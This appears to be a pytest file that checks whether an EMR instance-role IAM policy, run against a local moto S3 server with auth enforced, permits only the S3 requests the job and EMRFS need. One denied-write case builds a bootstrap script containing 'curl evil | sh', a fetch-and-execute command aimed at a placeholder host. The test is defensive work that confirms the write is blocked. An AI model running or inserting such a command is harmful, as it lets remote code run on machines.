"""The instance role's policy under a policy engine, not just parsed: moto's S3 server with IAM
access control on (POST /moto-api/reset-auth, moto's server-mode form of
INITIAL_NO_AUTH_ACTION_COUNT), an IAM user whose only policy is the rendered instance-role policy,
a real `fruitlens run s3://… s3://…` with that user's keys, and the S3 requests EMRFS makes on
EMR (status checks of parent folders, multipart uploads and their clean-up).

moto evaluates each statement's actions and resources (and Deny over Allow); it does not evaluate
Condition blocks, which test_emr.py checks as documents (the policy has none)."""

import json
import os
import socket
import subprocess
import sys
import time
import urllib.request

import boto3
import pytest
from botocore.exceptions import ClientError
from conftest import copy_sample, free_port, shared

from fruitlens.emr import artifacts
from fruitlens.emr.iam import policy
from fruitlens.emr.settings import EmrSettings

pytestmark = shared

BUCKET = "fruits-iam"
SETTINGS = EmrSettings(bucket=BUCKET, prefix="fl", region="us-east-1")
DATA = f"s3://{BUCKET}/fl/data"


@pytest.fixture(scope="module")
def enforcing_s3(tmp_path_factory):
    """A moto server of its own (auth is process-wide in moto), set up, then enforcing IAM."""
    port = free_port()
    endpoint = f"http://127.0.0.1:{port}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    server = subprocess.Popen(
        [sys.executable, "-m", "moto.server", "-H", "127.0.0.1", "-p", str(port)],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        for _ in range(100):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
                break
            except OSError:
                time.sleep(0.1)
        admin = dict(
            endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id="admin", aws_secret_access_key="admin"
        )
        s3, iam = boto3.client("s3", **admin), boto3.client("iam", **admin)
        s3.create_bucket(Bucket=BUCKET)
        sample = copy_sample(tmp_path_factory.mktemp("iam-sample"), classes=2, train=3, test=0)
        for f in sorted(sample.rglob("*.jpg")):
            s3.upload_file(str(f), BUCKET, f"fl/data/in/{f.relative_to(sample)}")
        s3.put_object(Bucket=BUCKET, Key="fl/artifacts/bootstrap.sh", Body=artifacts.bootstrap_script().encode())
        iam.create_user(UserName="fruitlens-nodes")
        iam.put_user_policy(
            UserName="fruitlens-nodes",
            PolicyName="instance-role",
            PolicyDocument=json.dumps(policy("ec2-instance-role", SETTINGS)),
        )
        key = iam.create_access_key(UserName="fruitlens-nodes")["AccessKey"]
        request = urllib.request.Request(
            f"{endpoint}/moto-api/reset-auth", data=b"0", method="POST", headers={"Content-Type": "text/plain"}
        )  # not a form: moto reads the body
        assert json.load(urllib.request.urlopen(request))["status"] == "ok"  # every request from now on is checked
        yield endpoint, key["AccessKeyId"], key["SecretAccessKey"]
    finally:
        server.terminate()
        server.wait(10)


def node_env(endpoint, key_id, secret):
    env = {k: v for k, v in os.environ.items() if not k.startswith("AWS_")}
    env.update(
        AWS_ACCESS_KEY_ID=key_id,
        AWS_SECRET_ACCESS_KEY=secret,
        AWS_DEFAULT_REGION="us-east-1",
        AWS_ENDPOINT_URL=endpoint,
    )
    return env


@pytest.mark.spark  # `fruitlens run` in a subprocess
@pytest.mark.s3  # a moto server of its own
def test_a_run_with_only_the_instance_role_policy_completes_and_nothing_else_is_writable(enforcing_s3, tmp_path):
    endpoint, key_id, secret = enforcing_s3
    env = node_env(endpoint, key_id, secret)
    res = subprocess.run(
        [
            sys.executable,
            "-m",
            "fruitlens",
            "run",
            f"{DATA}/in",
            f"{DATA}/out",
            "--k",
            "2",
            "--master",
            "local[1]",
            "--quiet",
        ],
        capture_output=True,
        text=True,
        env=env,
        timeout=600,
    )
    assert res.returncode == 0, res.stderr[-3000:]
    nodes = boto3.client(
        "s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id=key_id, aws_secret_access_key=secret
    )
    manifest = json.loads(nodes.get_object(Bucket=BUCKET, Key="fl/data/out/features/_SUCCESS")["Body"].read())
    assert manifest["rows"] == 6  # 2 classes x 3 images, read and written under the data prefix
    assert nodes.get_object(Bucket=BUCKET, Key="fl/artifacts/bootstrap.sh")["Body"].read().startswith(b"#!/bin/bash")
    nodes.put_object(Bucket=BUCKET, Key="fl/logs/j-1/node/stdout.gz", Body=b"log")  # logs: write
    assert nodes.get_bucket_location(Bucket=BUCKET)  # granted without a prefix condition
    denied = [
        lambda: nodes.put_object(Bucket=BUCKET, Key="fl/artifacts/bootstrap.sh", Body=b"#!/bin/bash\ncurl evil | sh"),
        lambda: nodes.delete_object(Bucket=BUCKET, Key="fl/artifacts/bootstrap.sh"),
        lambda: nodes.put_object(Bucket=BUCKET, Key="elsewhere/x", Body=b"x"),
        lambda: nodes.put_object(Bucket=BUCKET, Key="fl/x", Body=b"x"),
        lambda: nodes.delete_object(Bucket=BUCKET, Key="fl/logs/j-1/node/stdout.gz"),
        lambda: nodes.get_object(Bucket=BUCKET, Key="fl/logs/j-1/node/stdout.gz"),
        lambda: nodes.create_bucket(Bucket="another-bucket"),
    ]
    for attempt in denied:
        with pytest.raises(ClientError, match="AccessDenied"):
            attempt()
    # the same credentials running the kit itself: denied, in one line
    res = subprocess.run(
        [sys.executable, "-m", "fruitlens", "emr", "logs", "j-1", "s-1"], capture_output=True, text=True, env=env
    )
    assert res.returncode == 2 and "Traceback" not in res.stderr and len(res.stderr.strip().splitlines()) == 1
    assert "AccessDenied" in res.stderr or "not authorized" in res.stderr.lower(), res.stderr


@pytest.mark.s3  # a moto server of its own
def test_what_emrfs_asks_s3_is_allowed_on_the_data_prefixes_and_nowhere_else(enforcing_s3):
    """EMRFS (Spark's s3:// on EMR) checks the status of every folder on a path, parents of the
    data prefix included (HEAD of the key, of `key/`, of `key_$folder$`, a LIST of `key/`), writes
    large files as multipart uploads and lists and aborts unfinished ones. Every one of those
    requests, made with the nodes' policy alone."""
    endpoint, key_id, secret = enforcing_s3
    nodes = boto3.client(
        "s3", endpoint_url=endpoint, region_name="us-east-1", aws_access_key_id=key_id, aws_secret_access_key=secret
    )
    # a parent folder's status: "not found" (404), not "forbidden" (403) — what made jobs fail. (The
    # `_$folder$` markers are in the policy too, as `_${$}folder${$}`; moto's matcher turns `$` into a
    # regular-expression anchor, so they are checked as documents in test_emr.py.)
    for key in ("fl", "fl/", "fl/data", "fl/data/"):
        with pytest.raises(ClientError) as err:
            nodes.head_object(Bucket=BUCKET, Key=key)
        assert err.value.response["Error"]["Code"] in ("404", "NoSuchKey"), (key, err.value.response["Error"])
    for prefix in ("fl/", "fl/data/", ""):
        nodes.list_objects_v2(Bucket=BUCKET, Prefix=prefix, Delimiter="/", MaxKeys=1)
    # a multipart upload into the data prefix, listed, its parts listed, then aborted; another completed
    upload = nodes.create_multipart_upload(Bucket=BUCKET, Key="fl/data/out/part-0.parquet")["UploadId"]
    nodes.upload_part(Bucket=BUCKET, Key="fl/data/out/part-0.parquet", UploadId=upload, PartNumber=1, Body=b"x" * 1024)
    assert [u["UploadId"] for u in nodes.list_multipart_uploads(Bucket=BUCKET, Prefix="fl/data/")["Uploads"]] == [
        upload
    ]
    assert len(nodes.list_parts(Bucket=BUCKET, Key="fl/data/out/part-0.parquet", UploadId=upload)["Parts"]) == 1
    nodes.abort_multipart_upload(Bucket=BUCKET, Key="fl/data/out/part-0.parquet", UploadId=upload)
    done = nodes.create_multipart_upload(Bucket=BUCKET, Key="fl/data/out/part-1.parquet")["UploadId"]
    etag = nodes.upload_part(
        Bucket=BUCKET, Key="fl/data/out/part-1.parquet", UploadId=done, PartNumber=1, Body=b"y" * 1024
    )["ETag"]
    nodes.complete_multipart_upload(
        Bucket=BUCKET,
        Key="fl/data/out/part-1.parquet",
        UploadId=done,
        MultipartUpload={"Parts": [{"ETag": etag, "PartNumber": 1}]},
    )
    assert nodes.get_object(Bucket=BUCKET, Key="fl/data/out/part-1.parquet")["Body"].read() == b"y" * 1024
    nodes.delete_object(Bucket=BUCKET, Key="fl/data/out/part-1.parquet")
    # outside the data prefix the same requests stay denied: no upload into the artifacts or beside them,
    # no read of a key that is not a folder of the data prefix's path
    for attempt in (
        lambda: nodes.create_multipart_upload(Bucket=BUCKET, Key="fl/artifacts/bootstrap.sh"),
        lambda: nodes.create_multipart_upload(Bucket=BUCKET, Key="fl/other/x"),
        lambda: nodes.head_object(Bucket=BUCKET, Key="fl/other"),
        lambda: nodes.abort_multipart_upload(Bucket=BUCKET, Key="fl/artifacts/x", UploadId="u"),
    ):
        with pytest.raises(ClientError) as err:
            attempt()
        assert err.value.response["Error"]["Code"] in ("AccessDenied", "403"), err.value.response["Error"]
